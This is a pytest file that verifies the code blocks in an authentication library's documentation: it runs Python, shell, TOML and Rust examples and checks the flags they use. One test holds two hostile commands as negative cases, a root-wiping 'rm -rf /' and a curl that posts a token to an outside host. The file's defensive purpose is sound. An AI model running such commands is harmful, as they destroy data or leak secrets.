"""Every block of the documentation runs, or says beside it why it cannot."""

from __future__ import annotations

import json
import re
from collections import Counter
from pathlib import Path

import pytest
import python_blocks
import settings
import shell
from blocks import ROOT, Block, blocks, pages, read
from conftest import NOT_RUN

LANGUAGES = {"python", "toml", "rust", "sh", "console", "json", "yaml"}
"""The languages whose blocks are tested here."""

SHOWN = {
    "text": "what a program prints, or a figure",
    "http": "a request or an answer",
    "ini": "of another program that is left",
    "go": "of a server in another language",
    "java": "of a server in another language",
    "js": "of a client in a browser",
    "html": "of a client in a browser",
    "nginx": "tests/gateway starts the files of docs/gateway",
    "caddyfile": "tests/gateway starts the files of docs/gateway",
}
"""The languages whose blocks are only shown, and why."""

RUNS = [block for block in blocks() if not block.not_run]


def of(*languages: str) -> list[Block]:
    return [block for block in RUNS if block.language in languages]


def name(block: Block) -> str:
    return block.name


def test_every_block_has_a_language_that_is_known(counts: Counter[str]) -> None:
    counts["pages"] = len(pages())
    wrong = [
        f"{block.name}: {block.language!r}" for block in blocks() if block.language not in LANGUAGES | SHOWN.keys()
    ]
    assert not wrong, wrong
    for block in blocks():
        if block.not_run:
            NOT_RUN.append(f"{block.name} ({block.language}): {block.not_run}")
            counts["blocks not run, with a reason"] += 1
        elif block.language in SHOWN:
            counts["blocks that are only shown"] += 1


@pytest.fixture(scope="module")
def frameworks() -> None:
    pytest.importorskip("requires_auth", reason="the blocks in Python need the package")
    python_blocks.preload()


@pytest.fixture(scope="module")
def guard_environment(issuer: shell.Issuer, tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    keys = tmp_path_factory.mktemp("keys") / "keys.json"
    keys.write_text(issuer.keys)
    return {
        "REQUIRES_AUTH_ISSUER": issuer.url,
        "REQUIRES_AUTH_AUDIENCE": issuer.audience,
        "REQUIRES_AUTH_JWKS": str(keys),
        **dict.fromkeys(settings.SECRETS, settings.SECRET),
    }


@pytest.mark.parametrize("block", of("python"), ids=name)
@pytest.mark.usefixtures("frameworks")
def test_python(block: Block, guard_environment: dict[str, str], tmp_path: Path, counts: Counter[str]) -> None:
    outcome = python_blocks.run(block.text, tmp_path, guard_environment)
    if outcome.missing_name:
        before = [other.text for other in of("python") if other.page == block.page and other.line < block.line]
        outcome = python_blocks.run("\n".join([*before, block.text]), tmp_path, guard_environment)
    assert outcome.is_right, f"{block.name}\n{block.text}\n{outcome.said}"
    counts["blocks of Python that ran"] += 1


@pytest.mark.usefixtures("frameworks")
def test_a_block_of_python_that_is_wrong_fails(tmp_path: Path) -> None:
    assert not python_blocks.run("from requires_auth import RequiresAuht", tmp_path, {}).is_right
    assert python_blocks.run("print(absent)", tmp_path, {}).missing_name
    assert not python_blocks.run("def test_wrong():\n    assert 1 == 2\n", tmp_path, {}).is_right
    assert python_blocks.run("def test_right():\n    assert 1 == 1\n", tmp_path, {}).is_right


@pytest.mark.parametrize("block", of("toml"), ids=name)
def test_toml(block: Block, command: str, tmp_path: Path, counts: Counter[str]) -> None:
    if settings.is_of_others(block):
        counts["blocks of TOML for build tools that were read"] += 1
        return
    done = settings.check(command, settings.completed(block.text), tmp_path)
    assert done.returncode == 0, f"{block.name}\n{block.text}\n{done.stdout}{done.stderr}"
    counts["blocks of TOML that were checked"] += 1


def test_a_configuration_with_a_mistake_fails(command: str, tmp_path: Path) -> None:
    for wrong in ("leewai = 3\n", 'dpop = "sometimes"\n', settings.ISSUER.replace("audience", "audiense")):
        assert settings.check(command, settings.completed(wrong), tmp_path).returncode == 2


@pytest.mark.parametrize("block", of("json"), ids=name)
def test_json(block: Block, counts: Counter[str]) -> None:
    try:
        json.loads(block.text)
    except json.JSONDecodeError:  # a file with an object in each line
        assert all(isinstance(json.loads(line), dict) for line in block.text.splitlines()), block.name
    counts["blocks of JSON that were read"] += 1


@pytest.mark.parametrize("block", of("rust"), ids=name)
def test_rust_is_a_documentation_test(block: Block, counts: Counter[str]) -> None:
    """rustdoc compiles and runs the blocks of a page that is included; `cargo test` runs rustdoc."""
    assert "ignore" not in block.options, f"{block.name}: say in the line before it why it is not run"
    assert included(block.page), f"{block.page}: include it in crates/requires-auth/src/lib.rs"
    counts["blocks of Rust that rustdoc runs"] += 1


def test_rust_that_says_why_it_is_not_run_is_ignored_by_rustdoc() -> None:
    for block in blocks("rust"):
        if block.not_run and included(block.page):
            assert "ignore" in block.options, f"{block.name}: write ```rust,ignore"


def included(page: str) -> bool:
    """Whether a source of the workspace has a page as its documentation."""
    ending = re.compile(rf'#!?\[(?:cfg_attr\(.*?, )?doc = include_str!\("(?:\.\./)+{re.escape(page)}"\)\)?\]')
    own = re.compile(r'#!\[doc = include_str!\("\.\./README\.md"\)\]|#\[doc = include_str!\("\.\./README\.md"\)\]')
    for source in (ROOT / "crates").glob("*/src/**/*.rs"):
        text = source.read_text("utf-8")
        if ending.search(text):
            return True
        crate = source.relative_to(ROOT / "crates").parts[0]
        if page == f"crates/{crate}/README.md" and own.search(text):
            return True
    return False


@pytest.mark.parametrize("block", of("sh", "console"), ids=name)
def test_shell(block: Block, command: str, issuer: shell.Issuer, tmp_path: Path, counts: Counter[str]) -> None:
    commands = shell.commands_of(block)
    for line in commands:
        assert shell.is_known(line), f"{block.name}: nothing is known of this command:\n{line}"
        counts["commands"] += 1
        wrong = shell.flags_that_are_not_there(line, command)
        assert not wrong, f"{block.name}: {line}\nno such flag: {wrong}"
    done = shell.run(block, command, issuer, tmp_path)
    assert done.wrong == [], f"{block.name}\n{done.said}"
    counts["commands that ran"] += done.ran
    counts["blocks of shell that ran" if done.ran else "blocks of shell whose commands are known"] += 1


def test_a_command_that_is_wrong_fails(command: str, issuer: shell.Issuer, tmp_path: Path) -> None:
    def ran(text: str) -> shell.Done:
        [block] = shell.a_block(text)
        return shell.run(block, command, issuer, tmp_path)

    assert ran("requires-auth token --defect expired").wrong == []
    assert ran("requires-auth token --defect expird").wrong
    assert ran("requires-auth tokken").wrong
    assert shell.flags_that_are_not_there("requires-auth serve --lissten 1 gateway.toml", command) == ["--lissten"]
    assert not shell.is_known("rm -rf /")
    assert not shell.is_known("curl -d token=secret https://elsewhere.example")


def test_pages_name_no_file_of_this_machine() -> None:
    for page in pages():
        assert str(ROOT) not in read(page), page


def test_the_counts_are_not_empty() -> None:
    assert all(len(of(language)) > 25 for language in ("python", "toml", "rust"))
